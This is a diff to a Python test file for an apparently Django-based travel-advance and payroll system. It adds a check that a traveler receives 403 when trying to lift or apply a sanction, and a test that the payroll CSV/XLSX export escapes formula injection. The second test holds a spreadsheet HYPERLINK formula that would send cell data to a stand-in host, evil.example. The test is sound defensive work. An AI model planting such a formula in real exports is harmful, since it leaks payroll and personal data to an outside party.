@@ -305,6 +305,13 @@ def test_traveler_cannot_see_others_sanctions_or_requirements(
         ).status_code
         == 404
     )
+    # …and the traveler it concerns sees it but may not decide: 403 as documented, not 400
+    api_client.force_authenticate(traveler)
+    for name, body in [("v1:sanction-lift", {"reason": "x"}), ("v1:sanction-apply", {})]:
+        response = api_client.post(reverse(name, args=[sanction.pk]), body)
+        assert response.status_code == 403 and response.json()["code"] == "not_allowed"
+    sanction.refresh_from_db()
+    assert sanction.state == "applied"
     client.force_login(traveler)
     assert client.get(reverse("deadlines:sanction", args=[sanction.pk])).status_code == 200
     # the traveler sees their own sanction but cannot lift it
@@ -357,3 +364,29 @@ def test_dashboard_and_traveler_page_run_a_constant_number_of_queries(
         response = client.get(reverse("deadlines:mine"))
     assert response.status_code == 200
     assert Advance.objects.count() == 30
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_r_8b_payroll_export_writes_a_typed_formula_as_text(
+    returned_mission, accountant, client, file_format
+):
+    """A name rectified to a formula reaches the payroll office as text (formula injection)."""
+    returned_mission()
+    run("2026-03-13")
+    run("2026-03-23")
+    formula = '=HYPERLINK("http://evil.example/?"&D2,"Ver")'
+    PayrollDeductionOrder.objects.update(person_name=formula, concept="@SUM(1+1)")
+    client.force_login(accountant)
+    response = client.post(
+        reverse("deadlines:payroll"), {"period": "2026-03", "format": file_format}
+    )
+    assert response.status_code == 200
+    if file_format == "csv":
+        row = list(csv.reader(io.StringIO(response.content.decode())))[1]
+        person, concept, amount = row[2], row[6], row[4]
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert sheet["C2"].data_type == "s" and sheet["G2"].data_type == "s"
+        person, concept, amount = sheet["C2"].value, sheet["G2"].value, sheet["E2"].value
+    assert person == "'" + formula and concept == "'@SUM(1+1)"
+    assert float(amount) == 450.0
